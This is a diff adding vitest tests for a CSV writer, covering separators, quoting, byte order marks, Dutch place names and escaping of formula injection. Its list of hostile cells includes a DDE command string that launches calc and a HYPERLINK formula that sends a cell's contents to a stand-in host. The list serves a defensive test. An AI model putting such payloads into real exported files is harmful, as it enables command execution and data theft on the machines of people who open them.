@@ -1,0 +1,142 @@
+import fc from 'fast-check'
+import Papa from 'papaparse'
+import { describe, expect, it } from 'vitest'
+import { type CsvCell, textCell, writeCsv } from './csv.ts'
+
+const machine = { separator: ',', hasByteOrderMark: false } as const
+const excel = { separator: ';', hasByteOrderMark: true } as const
+const forms = [machine, excel] as const
+
+function read(text: string, delimiter: string): readonly (readonly string[])[] {
+  const { data, errors } = Papa.parse<readonly string[]>(text, { delimiter, newline: '\r\n' })
+  expect(errors).toEqual([])
+  return data.slice(0, -1)
+}
+
+/** What a reader finds in a cell. */
+function shown(cell: CsvCell): string {
+  switch (cell.kind) {
+    case 'text':
+      return /^[=+\-@\t\r\0]/.test(cell.text) ? `'${cell.text}` : cell.text
+    case 'number':
+      return cell.digits
+    case 'missing':
+      return ''
+  }
+}
+
+const hostile = [
+  '=1+1',
+  '=HYPERLINK("https://x.example?"&A1,"Klik")',
+  '="=1"',
+  "=cmd|' /C calc'!A0",
+  '+31612345678',
+  '+1+cmd',
+  '-1',
+  '-2+3+cmd',
+  '--1',
+  '@SUM(1;1)',
+  '@import',
+  '\t=1+1',
+  '\t',
+  '\r=1+1',
+  '\r\n=1+1',
+  '=1+1\nnote',
+  '=1,=2;=3',
+  '="a""b"',
+  '\0=1',
+  '=\u202E1',
+]
+
+const names = [
+  "'s-Hertogenbosch",
+  "'s-Gravenhage",
+  'Súdwest-Fryslân',
+  'Noardeast-Fryslân',
+  'IJsselstein',
+  'Aa en Hunze',
+  'Bergen (NH.)',
+  'Zaanstreek/Waterland',
+]
+
+describe('a file of comma- or semicolon-separated values', () => {
+  it('ends every line, the last one too, with CR and LF', () => {
+    const lines = [[textCell('a'), textCell('b')], [textCell('c')]]
+    expect(writeCsv(lines, machine)).toBe('a,b\r\nc\r\n')
+    expect(writeCsv(lines, excel)).toBe('\uFEFFa;b\r\nc\r\n')
+    expect(writeCsv([], machine)).toBe('')
+  })
+
+  it('has a byte order mark only where Excel needs it, and never a sep= line', () => {
+    expect([...new TextEncoder().encode(writeCsv([[textCell('a')]], excel))].slice(0, 3)).toEqual([
+      0xef, 0xbb, 0xbf,
+    ])
+    expect(writeCsv([[textCell('a')]], machine).startsWith('a')).toBe(true)
+    expect(forms.some((form) => writeCsv([[textCell('a')]], form).includes('sep='))).toBe(false)
+  })
+
+  it('quotes a field only where it must', () => {
+    const line = [textCell('a,b'), textCell('a;b'), textCell('a"b'), textCell('a\nb')]
+    expect(writeCsv([line], machine)).toBe('"a,b",a;b,"a""b","a\nb"\r\n')
+    expect(writeCsv([line], excel)).toBe('\uFEFFa,b;"a;b";"a""b";"a\nb"\r\n')
+  })
+
+  it('tells zero from missing', () => {
+    const line: readonly CsvCell[] = [
+      { kind: 'number', digits: '0' },
+      { kind: 'missing' },
+      { kind: 'number', digits: '1935' },
+    ]
+    expect(writeCsv([line], machine)).toBe('0,,1935\r\n')
+    expect(writeCsv([line], excel)).toBe('\uFEFF0;;1935\r\n')
+  })
+
+  it('never guards a number', () => {
+    const line: readonly CsvCell[] = ['-3', '-0,5', '+1', '=1'].map((digits) => ({
+      kind: 'number',
+      digits,
+    }))
+    expect(writeCsv([line], excel)).toBe('\uFEFF-3;-0,5;+1;=1\r\n')
+  })
+
+  it('quotes a decimal comma where the comma separates', () => {
+    expect(writeCsv([[{ kind: 'number', digits: '71,6' }]], machine)).toBe('"71,6"\r\n')
+  })
+})
+
+describe.each(forms)('with the separator $separator', (form) => {
+  it.each(hostile)('the text %j cannot run as a formula', (text) => {
+    const [line] = read(writeCsv([[textCell(text), textCell('end')]], form), form.separator)
+    expect(line).toEqual([`'${text}`, 'end'])
+  })
+
+  it.each(names)('the name %s is byte for byte the same', (name) => {
+    const text = writeCsv([[textCell(name)]], { ...form, hasByteOrderMark: false })
+    expect(text).toBe(`${name}\r\n`)
+  })
+
+  it('an independent reader finds exactly the cells that were written, whatever the text', () => {
+    const text = fc.oneof(
+      fc.string({ unit: 'grapheme' }),
+      fc.string({ unit: fc.constantFrom('"', ',', ';', '\r', '\n', '=', '-', "'", 'a', ' ') }),
+    )
+    const cell = fc.oneof(
+      text.map(textCell),
+      fc.integer().map((one): CsvCell => ({ kind: 'number', digits: String(one) })),
+      fc.constant<CsvCell>({ kind: 'missing' }),
+    )
+    // The first cell is a heading in every real file: readers take a mark at its front for a byte order mark.
+    const line = fc.array(cell, { minLength: 1, maxLength: 6 })
+    const lines = fc
+      .array(line, { minLength: 1, maxLength: 8 })
+      .map((all) => all.map((cells) => [textCell('x'), ...cells]))
+    fc.assert(
+      fc.property(lines, (all) => {
+        expect(read(writeCsv(all, form), form.separator)).toEqual(
+          all.map((cells) => cells.map(shown)),
+        )
+      }),
+      { seed: 4180, numRuns: 1000 },
+    )
+  })
+})
